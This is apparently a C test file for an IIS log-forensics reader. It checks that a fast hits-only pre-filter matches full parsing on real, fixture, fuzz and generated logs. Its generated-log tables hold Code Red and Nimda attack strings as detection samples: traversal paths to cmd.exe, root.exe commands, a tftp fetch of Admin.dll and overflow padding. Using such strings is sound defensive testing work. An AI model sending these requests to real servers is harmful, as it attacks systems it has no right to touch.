/* The hits-only reader (rs_iislog_set_hits_only: pre-filter, fast road)
 * against the full road, which parses every line into a record: same
 * statistics, same hits, field by field, over every log the project has
 * (realdata, fixtures, the fuzz corpus) and over generated logs built to
 * break it (encoded names, case, quotes, odd spacing and line ends, column
 * layouts, NUL, long lines, directives mid-file), fed in many chunkings so
 * lines straddle every kind of boundary. Also: each vector mask routine
 * against a byte-at-a-time reference written here from iislog_int.h's
 * definition, and the soundness of the sx class (every stem that can be a
 * hit carries an sx byte). Part of the iislog suite. */
#include <check.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "redsleuth/iislog.h"
#include "sources/iislog_int.h"
#include "testutil.h"

/* ------------------------------------------------------------ collecting */

struct hrec {
  uint64_t line;
  struct rs_time when;
  bool utc, has_date, qnull, backdoor;
  char *ip, *method, *stem, *query;
  int status, win32;
  enum rs_family fam;
};
struct hits {
  struct hrec *r;
  size_t n, cap;
  bool hits_only; /* the reader must not pass a non-hit */
  bool bad;       /* it did */
};

static void keep(const struct rs_logrec *r, void *arg)
{
  struct hits *h = arg;
  if (r->family == RS_FAM_NONE) {
    /* a non-hit on the hits-only road, or on either road a backdoor use
     * without a family: the scan's log_cb keeps backdoor uses whatever their
     * family, so one of family NONE would be lost on the hits-only road */
    if (h->hits_only || r->backdoor_use)
      h->bad = true;
    return;
  }
  if (h->n == h->cap) {
    h->cap = h->cap ? 2 * h->cap : 64;
    h->r = realloc(h->r, h->cap * sizeof *h->r);
    ck_assert_ptr_nonnull(h->r);
  }
  struct hrec *x = &h->r[h->n++];
  x->line = r->line;
  x->when = r->when;
  x->utc = r->utc;
  x->has_date = r->has_date;
  x->qnull = r->query == NULL;
  x->backdoor = r->backdoor_use;
  x->ip = strdup(r->client_ip);
  x->method = strdup(r->method);
  x->stem = strdup(r->stem);
  x->query = strdup(r->query ? r->query : "");
  x->status = r->status;
  x->win32 = r->win32_status;
  x->fam = r->family;
}

static void hits_free(struct hits *h)
{
  for (size_t i = 0; i < h->n; i++) {
    free(h->r[i].ip);
    free(h->r[i].method);
    free(h->r[i].stem);
    free(h->r[i].query);
  }
  free(h->r);
  memset(h, 0, sizeof *h);
}

struct road {
  const char *name;
  enum rs_logfmt fmt;
  const struct rs_tz *tz;
};

/* Feeds data in chunks of `chunk` bytes (0: whole) to a reader on the given
 * road; returns the lines it counted on the fast road. */
static uint64_t read_log(const struct road *rd, const void *data, size_t len, size_t chunk,
                         bool hits_only, struct rs_logfile_stats *st, struct hits *h)
{
  struct rs_iislog *p = NULL;
  struct rs_diag d;
  memset(h, 0, sizeof *h);
  memset(st, 0, sizeof *st);
  h->hits_only = hits_only;
  ck_assert_int_eq(rs_iislog_open(rd->name, rd->fmt, rd->tz, keep, h, &p, &d), RS_OK);
  rs_iislog_set_hits_only(p, hits_only);
  const uint8_t *b = data;
  if (chunk == 0)
    chunk = len ? len : 1;
  enum rs_err e = RS_OK; /* one assertion, not one a feed: Check logs each */
  for (size_t off = 0; off < len && e == RS_OK; off += chunk)
    e = rs_iislog_feed(p, b + off, len - off < chunk ? len - off : chunk, &d);
  ck_assert_int_eq(e, RS_OK);
  ck_assert_int_eq(rs_iislog_finish(p, st, &d), RS_OK);
  uint64_t fast = rs_iislog_fast_lines(p);
  rs_iislog_free(p);
  return fast;
}

static bool same_time(const struct rs_time *a, const struct rs_time *b)
{
  return a->set == b->set &&
         (!a->set || (a->sec == b->sec && a->nsec == b->nsec && a->digits == b->digits));
}

/* (if + abort: a passing ck_assert costs a message to the runner, and
 * there are millions of these) */
#define SAME(field)                                                                                \
  do {                                                                                             \
    if (a->field != b->field)                                                                      \
      ck_abort_msg("%s: " #field " %llu vs %llu", what, (unsigned long long)a->field,              \
                   (unsigned long long)b->field);                                                  \
  } while (0)

static void same_stats(const char *what, const struct rs_logfile_stats *a,
                       const struct rs_logfile_stats *b)
{
  SAME(format);
  SAME(lines);
  SAME(records);
  SAME(directives);
  SAME(unparsed);
  SAME(long_lines);
  SAME(first_unparsed_line);
  SAME(times_utc);
  for (int f = 0; f < RS_FAM__COUNT; f++)
    SAME(hits[f]);
  ck_assert_msg(same_time(&a->first, &b->first), "%s: first differs", what);
  ck_assert_msg(same_time(&a->last, &b->last), "%s: last differs", what);
  ck_assert_msg(strcmp(a->tz_used, b->tz_used) == 0, "%s: tz_used differs", what);
}

static void same_hits(const char *what, const struct hits *ha, const struct hits *hb)
{
  ck_assert_msg(ha->n == hb->n, "%s: %zu hits vs %zu", what, ha->n, hb->n);
  for (size_t i = 0; i < ha->n; i++) {
    const struct hrec *a = &ha->r[i], *b = &hb->r[i];
    SAME(line);
    SAME(utc);
    SAME(has_date);
    SAME(qnull);
    SAME(backdoor);
    SAME(status);
    SAME(win32);
    SAME(fam);
    if (!same_time(&a->when, &b->when))
      ck_abort_msg("%s: line %llu: time differs", what, (unsigned long long)a->line);
    if (strcmp(a->ip, b->ip) || strcmp(a->method, b->method) || strcmp(a->stem, b->stem) ||
        strcmp(a->query, b->query))
      ck_abort_msg("%s: line %llu: strings differ (%s %s vs %s %s)", what,
                   (unsigned long long)a->line, a->stem, a->query, b->stem, b->query);
  }
}
#undef SAME

/* Every chunking the hits-only reader is fed in: single bytes, odd sizes,
 * the mask word (64) and window (RS_LOGWIN) sizes and their neighbours. */
static const size_t chunkings[] = {0,
                                   1,
                                   2,
                                   7,
                                   63,
                                   64,
                                   65,
                                   127,
                                   4093,
                                   RS_LOGWIN - 1,
                                   RS_LOGWIN,
                                   RS_LOGWIN + 1,
                                   2 * RS_LOGWIN + 3,
                                   100000};

/* The full road (whole buffer) against the hits-only road in every
 * chunking; returns the fast-road lines of the whole-buffer run. */
static uint64_t both_roads(const char *what, const struct road *rd, const void *data, size_t len)
{
  struct rs_logfile_stats ref, st;
  struct hits href, h;
  ck_assert_uint_eq(read_log(rd, data, len, 0, false, &ref, &href), 0);
  ck_assert_msg(!href.bad, "%s: a backdoor use of family none", what);
  uint64_t fast0 = 0;
  for (size_t c = 0; c < sizeof chunkings / sizeof chunkings[0]; c++) {
    if (chunkings[c] == 1 && len > 300000)
      continue; /* byte by byte: the small logs are enough */
    char label[512];
    snprintf(label, sizeof label, "%s (chunks of %zu)", what, chunkings[c]);
    uint64_t fast = read_log(rd, data, len, chunkings[c], true, &st, &h);
    if (c == 0)
      fast0 = fast;
    ck_assert_msg(!h.bad, "%s: a non-hit reached the hits-only callback", label);
    ck_assert_msg(fast <= st.lines, "%s", label);
    same_stats(label, &ref, &st);
    same_hits(label, &href, &h);
    hits_free(&h);
  }
  hits_free(&href);
  return fast0;
}

/* Every regular file of dir through both roads under its own name (the
 * name gives the format hint and the date of dateless W3C logs). */
static size_t both_roads_dir(const char *dir, bool fuzz_input)
{
  DIR *dp = opendir(dir);
  if (!dp)
    return 0;
  size_t n = 0;
  struct dirent *e;
  while ((e = readdir(dp)) != NULL) {
    if (e->d_name[0] == '.')
      continue;
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
    size_t len;
    unsigned char *data = rs_t_slurp(path, &len);
    if (!data)
      continue;
    struct road rd = {path, RS_LOGFMT_UNKNOWN, NULL};
    const unsigned char *body = data;
    struct rs_tz tz;
    if (fuzz_input && len > 0) {
      /* as fuzz_iislog.c reads its inputs: the first byte picks the name,
       * the format and whether the zone is known */
      static const char *const names[] = {"ex010804.log", "in010719.log", "nc010920.log", "x.log"};
      memset(&tz, 0, sizeof tz);
      tz.known = (data[0] & 0x40) != 0;
      tz.bias = 300;
      tz.daylight_bias = -60;
      tz.daylight_start = (struct rs_systemtime){0, 4, 0, 1, 2, 0, 0, 0};
      tz.standard_start = (struct rs_systemtime){0, 10, 0, 5, 2, 0, 0, 0};
      rd = (struct road){names[data[0] & 3], (enum rs_logfmt)((data[0] >> 2) & 3), &tz};
      body++;
      len--;
    }
    both_roads(path, &rd, body, len);
    free(data);
    n++;
  }
  closedir(dp);
  return n;
}

/* ------------------------------------------------------------ the logs */

START_TEST(prefilter_realdata)
{
  const char *dir = rs_t_realdata("logs");
  RS_T_SKIP_IF(!dir, "realdata folder absent");
  ck_assert_uint_ge(both_roads_dir(dir, false), 5);
}
END_TEST

START_TEST(prefilter_fixtures)
{
  DIR *dp = opendir(rs_t_src("fixtures/out"));
  ck_assert_ptr_nonnull(dp);
  size_t n = 0;
  struct dirent *e;
  while ((e = readdir(dp)) != NULL) {
    if (e->d_name[0] == '.')
      continue;
    char rel[512];
    snprintf(rel, sizeof rel, "fixtures/out/%s/logs", e->d_name);
    n += both_roads_dir(rs_t_src(rel), false);
  }
  closedir(dp);
  ck_assert_uint_ge(n, 10); /* W3C, IIS native and NCSA fixture logs */
}
END_TEST

START_TEST(prefilter_fuzz_corpus)
{
  ck_assert_uint_ge(both_roads_dir(rs_t_src("fuzz/corpus/iislog"), true), 20);
}
END_TEST

/* -------------------------------------------------- generated W3C logs */

static uint64_t rng = 2001;
static unsigned rnd(unsigned n)
{
  rng = rng * 6364136223846793005ULL + 1442695040888963407ULL;
  return (unsigned)(rng >> 33) % n;
}
#define PICK(a) (a)[rnd(sizeof(a) / sizeof((a)[0]))]

/* Stems: ordinary ones, dots before i/e/d that are no extension, every hit
 * form the classifier knows (literal, any case, %hh, %u00hh, %25hh double
 * encoding, encoded file names), encoded non-hits, whole request lines, a
 * quote, an empty one. */
static const char *const stems[] = {
    "/index.htm",
    "/",
    "-",
    "/images/logo.gif",
    "/a.b.c",
    "/x.index",
    "/edu.de/y",
    "/.e",
    "/file.id",
    "/f.ex",
    "/f.dl",
    "/f.idx",
    "/f.exec",
    "/f.dllx",
    "/ida",
    "/exe",
    "/.dll",
    "/default.ida",
    "/DEFAULT.IDA",
    "/Default.Ida",
    "/x.idq",
    "/null.ida",
    "/null.IDQ",
    "/scripts/root.exe",
    "/MSADC/root.exe",
    "/msadc/ROOT.EXE",
    "/c/winnt/system32/cmd.exe",
    "/d/winnt/system32/CMD.EXE",
    "/scripts/..%255c../winnt/system32/cmd.exe",
    "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
    "/scripts/..%c1%1c../winnt/system32/cmd.exe",
    "/scripts/..%%35%63../winnt/system32/cmd.exe",
    "/scripts/..%25%35%63../winnt/system32/cmd.exe",
    "/scripts/admin.dll",
    "/Admin.DLL",
    "/c/admin.dll",
    "/scripts/counter.exe",
    "/cgi-bin/stats.dll",
    "/default%2eida",
    "/default%2Eida",
    "/default%u002eida",
    "/default%U002Eida",
    "/default%252eida",
    "/default.%69da",
    "/r%6fot.exe",
    "/scripts/root%2Eexe",
    "/%63md.exe",
    "/%63/winnt/system32/cmd.exe",
    "/scripts/r%256fot.exe",
    "/a%20b.htm",
    "/%7euser/",
    "/100%25.htm",
    "/%",
    "/%2",
    "/%u00",
    "/default.ida?NNNNNNNNNNNNNNNNNNNNNNNNN%u9090",
    "/default.ida?XXXXXXXXXXXXXXXXXXXXXX",
    "GET /default.ida?NNNNNNNNNNNNNNNNNNNN HTTP/1.0",
    "GET /scripts/root.exe?/c+dir HTTP/1.0",
    "\"/quoted.htm\"",
    "/a\"b.exe",
    "/caf\xe9.html",
    "/x\\root.exe",
    "/scripts\\..\\cmd.exe"};
static const char *const queries[] = {"-",
                                      "-",
                                      "-",
                                      "q=shoes",
                                      "NNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858",
                                      "XXXXXXXXXXXXXXXXXXXXX",
                                      "/c+dir",
                                      "/c%20dir",
                                      "/C+DIR",
                                      "/c+tftp+-i+192.0.2.9+GET+Admin.dll+c:\\Admin.dll",
                                      "q=default.ida",
                                      "q=red%20shoes",
                                      "a=root.exe",
                                      "x=.exe",
                                      "\"q\"",
                                      "id=1.2"};
static const char *const dates[] = {"2001-08-04", "2001-08-04", "2001-08-05", "2000-02-29",
                                    "2001-02-29", "2001-13-01", "01-08-04",   "-"};
static const char *const times[] = {"00:00:01", "10:00:00", "23:59:59", "9:05:03", "10:00:00.123",
                                    "10:00:60", "25:00:00", "10:00",    "-"};
static const char *const ips[] = {"192.0.2.1", "198.51.100.7", "::1", "-", "203.0.113.9"};
static const char *const methods[] = {"GET", "GET", "HEAD", "POST", "-", "OPTIONS"};
static const char *const statuses[] = {"200", "404", "404",   "502", "304",
                                       "-",   "20x", "12345", "401"};
static const char *const win32s[] = {"0", "64", "214784354254", "-", "x"};
static const char *const agents[] = {"Mozilla/4.0+(compatible;+MSIE+5.5;+Windows+98)",
                                     "-",
                                     "Mozilla/4.0 (compatible; MSIE 5.5)",
                                     "\"Mozilla/4.0 (quoted agent)\"",
                                     "agent.exe",
                                     "x%41y",
                                     "a.dll.ida",
                                     "Googlebot/2.1"};

/* Column layouts: with a date, without (dates from #Date or the name, days
 * rolling over), cs-uri instead of stem and query, the user agent before the
 * status (a merged agent moves the status), no agent (surplus: unparsed). */
static const char *const layouts[] = {
    "date time c-ip cs-username s-ip s-port cs-method cs-uri-stem cs-uri-query sc-status "
    "cs(User-Agent)",
    "time c-ip cs-method cs-uri-stem sc-status",
    "date time c-ip cs-method cs-uri sc-status sc-win32-status",
    "date time cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status sc-win32-status",
    "date time c-ip cs-method cs-uri-stem cs-uri-query sc-status",
};

struct gbuf {
  char *b;
  size_t n, cap;
};
static void put(struct gbuf *g, const char *s, size_t n)
{
  if (g->n + n + 1 > g->cap) {
    g->cap = (g->n + n + 1) * 2;
    g->b = realloc(g->b, g->cap);
    ck_assert_ptr_nonnull(g->b);
  }
  memcpy(g->b + g->n, s, n);
  g->n += n;
}
static void puts_(struct gbuf *g, const char *s)
{
  put(g, s, strlen(s));
}

static const char *sep(void)
{
  static const char *const seps[] = {" ", " ", " ", " ", " ", " ", " ", "  ", "\t"};
  return PICK(seps);
}

static void field(struct gbuf *g, const char *name)
{
  if (!strcmp(name, "date"))
    puts_(g, PICK(dates));
  else if (!strcmp(name, "time"))
    puts_(g, PICK(times));
  else if (!strcmp(name, "c-ip"))
    puts_(g, PICK(ips));
  else if (!strcmp(name, "cs-method"))
    puts_(g, PICK(methods));
  else if (!strcmp(name, "cs-uri-stem"))
    puts_(g, PICK(stems));
  else if (!strcmp(name, "cs-uri-query"))
    puts_(g, PICK(queries));
  else if (!strcmp(name, "cs-uri")) {
    puts_(g, PICK(stems));
    if (rnd(2)) {
      puts_(g, "?");
      puts_(g, PICK(queries));
    }
  } else if (!strcmp(name, "sc-status"))
    puts_(g, PICK(statuses));
  else if (!strcmp(name, "sc-win32-status"))
    puts_(g, PICK(win32s));
  else if (!strcmp(name, "cs(User-Agent)"))
    puts_(g, PICK(agents));
  else if (!strcmp(name, "s-port"))
    puts_(g, "80");
  else
    puts_(g, "-");
}

/* One request line in the current layout, sometimes damaged. */
static void request_line(struct gbuf *g, const char *layout)
{
  char names[16][32];
  int nf = 0;
  for (const char *c = layout; *c && nf < 16;) {
    size_t k = strcspn(c, " ");
    snprintf(names[nf++], sizeof names[0], "%.*s", (int)k, c);
    c += k;
    c += strspn(c, " ");
  }
  int drop = rnd(20) == 0 ? (int)rnd((unsigned)nf) + 1 : 0; /* a short line */
  if (rnd(30) == 0)
    puts_(g, rnd(2) ? " " : "\r"); /* leading space or CR */
  for (int i = 0; i < nf - drop; i++) {
    if (i)
      puts_(g, sep());
    field(g, names[i]);
  }
  if (rnd(25) == 0)
    puts_(g, " extra"); /* one token too many */
  if (rnd(20) == 0)
    puts_(g, rnd(2) ? " \t " : "  ");
}

static const char *eol(void)
{
  static const char *const e[] = {"\r\n", "\r\n", "\r\n", "\n", "\n", "\r\r\n"};
  return PICK(e);
}

/* A W3C log of about `lines` lines with every kind of trouble. */
static char *gen_w3c(size_t lines, bool header_first, size_t *len)
{
  struct gbuf g = {0};
  const char *layout = layouts[0];
  if (header_first) {
    puts_(&g, "#Software: Microsoft Internet Information Services 5.0\r\n#Version: 1.0\r\n"
              "#Date: 2001-08-04 00:00:00\r\n#Fields: ");
    puts_(&g, layout);
    puts_(&g, "\r\n");
  }
  for (size_t i = 0; i < lines; i++) {
    unsigned k = rnd(1000);
    if (k < 8) { /* a new header block, maybe another layout */
      layout = PICK(layouts);
      puts_(&g, rnd(2) ? "#Date: 2001-08-0" : "#date: 2001-08-0");
      char d[2] = {(char)('4' + rnd(3)), 0};
      puts_(&g, d);
      puts_(&g, " 00:00:00");
      puts_(&g, eol());
      puts_(&g, rnd(4) ? "#Fields: " : "#FIELDS: ");
      puts_(&g, layout);
    } else if (k < 10) {
      puts_(&g, "#Remark: restarted");
    } else if (k < 16) {
      /* blank, spaces only */
      puts_(&g, rnd(2) ? "" : " \t ");
    } else if (k < 18) {
      put(&g, "2001-08-04 10:00:00 a\0b GET /x.htm 200", 38); /* a NUL */
    } else if (k < 19) {
      /* a request whose user agent has spaces, 127 to 140 tokens in all:
       * past 128 the line is unparsed, up to 128 the agent is merged */
      puts_(&g, "2001-08-04 10:00:00 192.0.2.1 - 192.0.2.2 80 GET /index.htm - 200");
      static const unsigned words[] = {117, 118, 119, 130};
      for (unsigned t = PICK(words); t > 0; t--)
        puts_(&g, " w");
    } else if (k < 20) {
      request_line(&g, layout);
      puts_(&g, " ");
      size_t pad = RS_LOGWIN + rnd(3 * RS_LOGWIN); /* longer than a window */
      for (size_t t = 0; t < pad; t++)
        put(&g, t % 97 == 96 ? " " : (t % 13 ? "a" : "."), 1);
    } else if (k < 21 && rnd(4) == 0) {
      for (size_t t = 0; t < 70000; t++)
        put(&g, t % 50 ? "x" : " ", 1); /* past the 64 KiB line limit */
    } else if (k < 23) {
      puts_(&g, "garbage \"with a quote and 100%");
    } else {
      request_line(&g, layout);
    }
    puts_(&g, eol());
  }
  if (rnd(2))
    request_line(&g, layout); /* a last line without its newline */
  *len = g.n;
  return g.b;
}

START_TEST(prefilter_generated)
{
  /* several seeds; with and without a header first (rows before any
   * #Fields are unparsed); named daily (dates for dateless rows) or not */
  static const char *const names[] = {"ex010804.log", "x.log", "ex0108.log"};
  rng = 2001 + (uint64_t)_i * 7919;
  size_t len;
  char *log = gen_w3c(6000, _i % 4 != 3, &len);
  struct road rd = {names[_i % 3], RS_LOGFMT_UNKNOWN, NULL};
  char what[64];
  snprintf(what, sizeof what, "generated log %d", _i);
  uint64_t fast = both_roads(what, &rd, log, len);
  struct rs_logfile_stats st;
  struct hits h;
  read_log(&rd, log, len, 0, false, &st, &h);
  /* the test means something: hits of several families, unparsed lines,
   * and most lines on the fast road */
  ck_assert_uint_gt(h.n, 100);
  ck_assert_uint_gt(st.hits[RS_FAM_NIMDA] + st.hits[RS_FAM_ROOTEXE_OTHER], 10);
  ck_assert_uint_gt(st.hits[RS_FAM_CODERED1] + st.hits[RS_FAM_CODERED_UNKNOWN], 10);
  ck_assert_uint_gt(st.unparsed, 50);
  /* backdoor uses (root.exe, cmd.exe under /c or /d, 2xx or 502) reach the
   * hits-only callback with their flag, as the scan's log_cb wants them */
  size_t nbd = 0;
  for (size_t i = 0; i < h.n; i++)
    nbd += h.r[i].backdoor;
  ck_assert_uint_gt(nbd, 5);
  ck_assert_msg(fast > st.lines / 3, "only %llu of %llu lines on the fast road",
                (unsigned long long)fast, (unsigned long long)st.lines);
  hits_free(&h);
  free(log);
}
END_TEST

/* A log the fast road takes whole: its lines' fates are known by
 * construction, so the counts are checked against them, not only between
 * the roads. */
START_TEST(prefilter_counts)
{
  struct gbuf g = {0};
  puts_(&g, "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status\n");
  size_t n = 3 * RS_LOGWIN / 40, hits = 0;
  for (size_t i = 0; i < n; i++) {
    char line[200];
    bool hit = i % 17 == 5;
    snprintf(line, sizeof line, "2001-08-04 10:%02zu:%02zu 192.0.2.%zu GET %s %s 404\r\n",
             i / 60 % 60, i % 60, i % 250,
             hit ? (i % 2 ? "/default.ida" : "/scripts/..%255c../winnt/system32/cmd.exe")
                 : (i % 3 ? "/index.htm" : "/search.asp"),
             hit ? (i % 2 ? "NNNNNNNNNNNNNNNNNNNNNNNNN" : "/c+dir") : (i % 5 ? "-" : "q=a%20b"));
    puts_(&g, line);
    hits += hit;
  }
  struct road rd = {"ex010804.log", RS_LOGFMT_UNKNOWN, NULL};
  struct rs_logfile_stats st;
  struct hits h;
  uint64_t fast = read_log(&rd, g.b, g.n, 0, true, &st, &h);
  ck_assert_uint_eq(st.lines, n + 1);
  ck_assert_uint_eq(st.records, n);
  ck_assert_uint_eq(st.unparsed, 0);
  ck_assert_uint_eq(h.n, hits);
  ck_assert_uint_eq(st.hits[RS_FAM_NONE], n - hits);
  ck_assert_uint_eq(fast, n - hits); /* every non-hit, '%' queries included */
  ck_assert_str_eq(h.r[0].stem, "/default.ida");
  ck_assert_int_eq(h.r[0].fam, RS_FAM_CODERED1);
  ck_assert_uint_eq(h.r[0].line, 7); /* i = 5 on line 7 */
  ck_assert_str_eq(h.r[1].stem, "/scripts/..%255c../winnt/system32/cmd.exe");
  ck_assert_int_eq(h.r[1].fam, RS_FAM_NIMDA);
  ck_assert_uint_eq(h.r[1].line, 24);
  char first[RS_TIME_ISO_MAX], last[RS_TIME_ISO_MAX];
  ck_assert_str_eq(rs_time_iso(&st.first, first), "2001-08-04T10:00:00Z");
  ck_assert_str_eq(rs_time_iso(&st.last, last), "2001-08-04T10:10:13Z"); /* i = 613 */
  hits_free(&h);
  /* fed in 4 KiB reads, the lines that straddle two take the full road */
  fast = read_log(&rd, g.b, g.n, 4096, true, &st, &h);
  ck_assert_uint_eq(h.n, hits);
  ck_assert_uint_le(fast, n - hits);
  ck_assert_uint_ge(fast, n - hits - g.n / 4096 - 1);
  hits_free(&h);
  free(g.b);
}
END_TEST

/* ------------------------------------------------------------ the masks */

static bool ref_sx(const unsigned char *s, size_t i, size_t avail)
{
  unsigned char c = s[i];
  if (c == '%' || c == '"' || c == 0)
    return true;
  if (c != '.' || i + 1 >= avail)
    return false;
  unsigned char d = s[i + 1];
  return d == 'i' || d == 'I' || d == 'e' || d == 'E' || d == 'd' || d == 'D';
}

START_TEST(logwin_masks)
{
  static const char alphabet[] = "..iIeEdDxX %%\"\n\n\r\t\0aZ/";
  rng = 77;
  struct rs_logwin *w = malloc(sizeof *w);
  int isas = 0;
  for (int round = 0; round < 3000; round++) {
    size_t n = rnd(round < 2000 ? 200 : RS_LOGWIN + 1);
    size_t avail = n + (rnd(3) ? 0 : rnd(70));
    unsigned char *s = malloc(avail ? avail : 1); /* exact size: ASan sees overreads */
    for (size_t i = 0; i < avail; i++)
      s[i] = rnd(4) ? (unsigned char)alphabet[rnd(sizeof alphabet - 1)] : (unsigned char)rnd(256);
    for (int isa = RS_LOGWIN_BYTES; isa <= RS_LOGWIN_AVX2; isa++) {
      memset(w, 0xa5, sizeof *w);
      if (!rs_logwin_scan_isa((enum rs_logwin_isa)isa, w, (const char *)s, n, avail))
        continue;
      if (round == 0)
        isas++;
      for (size_t i = 0; i < (n + 63) / 64 * 64; i++) {
        bool in = i < n;
        bool nl = w->nl[i / 64] >> (i % 64) & 1, sp = w->sp[i / 64] >> (i % 64) & 1,
             sx = w->sx[i / 64] >> (i % 64) & 1, sq = w->sq[i / 64] >> (i % 64) & 1;
        if (nl != (in && s[i] == '\n') || sp != (in && s[i] == ' ') ||
            sx != (in && ref_sx(s, i, avail)) || sq != (in && (s[i] == '"' || s[i] == 0)))
          ck_abort_msg("isa %d, n %zu, avail %zu: byte %zu (0x%02x) classed nl %d sp %d sx %d "
                       "sq %d",
                       isa, n, avail, i, in ? s[i] : 0, nl, sp, sx, sq);
      }
    }
    free(s);
  }
  ck_assert_int_ge(isas, 2); /* the byte reference and at least SSE2 on x86-64 */
  free(w);
}
END_TEST

/* The pre-filter's soundness, directly: a stem that passes the classifier's
 * pre-test (which every hit passes: emit classifies nothing else) has a byte
 * of the sx class, so a line without one cannot hold a hit; and every stem
 * the classifier calls a hit passes the pre-test. Over the generator's stems
 * and random stems built from hit fragments. */
/* s with random letters' case flipped and random bytes percent-encoded the
 * ways IIS decodes (%hh, %u00hh, %25hh: decoded twice), hex digits in
 * either case. */
static void mutate(const char *in, char *out, size_t cap)
{
  static const char hex[] = "0123456789abcdef0123456789ABCDEF";
  size_t o = 0;
  for (const char *c = in; *c && o + 8 < cap; c++) {
    unsigned char ch = (unsigned char)*c;
    unsigned k = rnd(12);
    if ((ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z'))
      ch = k < 3 ? (unsigned char)(ch ^ 0x20) : ch;
    unsigned up = rnd(2) * 16;
    if (k == 10) {
      o += (size_t)snprintf(out + o, cap - o, "%%%c%c", hex[up + (ch >> 4)], hex[up + (ch & 15)]);
    } else if (k == 11 && rnd(2)) {
      o += (size_t)snprintf(out + o, cap - o, "%%%c00%c%c", rnd(2) ? 'u' : 'U', hex[up + (ch >> 4)],
                            hex[up + (ch & 15)]);
    } else if (k == 11) {
      o += (size_t)snprintf(out + o, cap - o, "%%25%c%c", hex[up + (ch >> 4)], hex[up + (ch & 15)]);
    } else {
      out[o++] = (char)ch;
    }
  }
  out[o] = '\0';
}

START_TEST(sx_covers_hits)
{
  static const char *const frags[] = {
      "/",       ".",       "ida", "IDQ", "exe", "Dll", "%", "2e", "u00", "252e", "root", "cmd",
      "default", "scripts", "..",  "a",   "?",   "N",   "X", "\\", "c/",  "%u",   "admin"};
  rng = 99;
  struct rs_logwin *w = malloc(sizeof *w);
  size_t hits = 0, nstems = sizeof stems / sizeof stems[0];
  for (size_t i = 0; i < 60000; i++) {
    char s[400];
    if (i < nstems) {
      snprintf(s, sizeof s, "%s", stems[i]);
    } else if (i % 3) {
      mutate(stems[rnd((unsigned)nstems)], s, sizeof s);
    } else {
      s[0] = '\0';
      for (unsigned k = rnd(12) + 1; k > 0; k--)
        strncat(s, PICK(frags), sizeof s - strlen(s) - 1);
    }
    size_t n = strlen(s);
    enum rs_family f = rs_iislog_classify("GET", s, rnd(2) ? NULL : PICK(queries));
    bool pre = rs_iislog_maybe_hit(s, n);
    if (f != RS_FAM_NONE && !pre)
      ck_abort_msg("%s: a hit the pre-test misses", s);
    rs_logwin_scan(w, s, n, n);
    if (pre && !rs_logwin_any(w->sx, 0, n))
      ck_abort_msg("%s: passes the pre-test, no sx byte", s);
    hits += f != RS_FAM_NONE;
  }
  ck_assert_uint_gt(hits, 5000);
  free(w);
}
END_TEST

void rs_iislog_prefilter_tcase(Suite *s);
void rs_iislog_prefilter_tcase(Suite *s)
{
  TCase *tc = tcase_create("prefilter");
  tcase_set_timeout(tc, 300);
  tcase_add_test(tc, prefilter_realdata);
  tcase_add_test(tc, prefilter_fixtures);
  tcase_add_test(tc, prefilter_fuzz_corpus);
  tcase_add_loop_test(tc, prefilter_generated, 0, 8);
  tcase_add_test(tc, prefilter_counts);
  tcase_add_test(tc, logwin_masks);
  tcase_add_test(tc, sx_covers_hits);
  suite_add_tcase(s, tc);
}
